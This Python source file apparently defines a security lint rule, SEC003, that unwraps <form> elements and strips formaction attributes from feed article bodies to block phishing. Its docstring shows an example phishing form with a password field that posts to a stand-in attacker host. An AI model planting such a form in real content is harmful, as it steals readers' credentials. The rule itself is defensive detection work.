"""Unwrap ``<form>`` elements and remove ``formaction`` from form controls.

## What it does
Reports every ``<form>`` in the body and removes its start and end tags (the content stays), and every
``formaction`` attribute on a ``<button>`` or ``<input>``, which it removes.

## Why is this bad?
A form in an article posts whatever readers type to an address the feed chose: a classic phishing
device ("log in again to keep reading"). ``formaction`` does the same from a single button, and a
``javascript:`` action runs script on click.

## Example
```html
<form action="https://evil.example/collect"><p>密码：<input type="password" name="p"></p></form>
```

## Use instead
```html
<p>请在官网登录。</p>
```

## Options
None.

## Fix safety
Safe: only the ``<form>`` and ``</form>`` tags (or the ``formaction`` attribute) are removed; the text
and controls inside stay, and without a form they can no longer send anything.
"""

from __future__ import annotations

from ..edits import Applicability, Edit, Fix
from ..hookspecs import hookimpl
from ..rule import Rule
from ._util import attr_removal


class Form(Rule):
    code = "SEC003"
    name = "form"
    summary = "<form> or formaction in the body"
    groups = ("security",)
    fix = "safe"
    tags = ("form", "button", "input")

    def check_element(self, el, article, options):
        if el.tag == "form":
            edits = [Edit(el.start, el.start_tag_end, "")]
            if el.end_tag is not None:
                edits.append(Edit(*el.end_tag, ""))
            action = el.get("action")
            where = f" posting to {action[:60]}" if action else ""
            return (self.violation(article, el.start, el.start_tag_end, f"<form>{where}",
                                   Fix(edits, Applicability.SAFE, "Unwrap <form>")),)
        a = el.attr("formaction")
        if a is None:
            return ()
        fix = Fix([attr_removal(article.text, a, el.start)], Applicability.SAFE, "Remove formaction attribute")
        return (self.violation(article, a.start, a.end, f"formaction on <{el.tag}>", fix),)


@hookimpl
def artlint_rules():
    return [Form()]
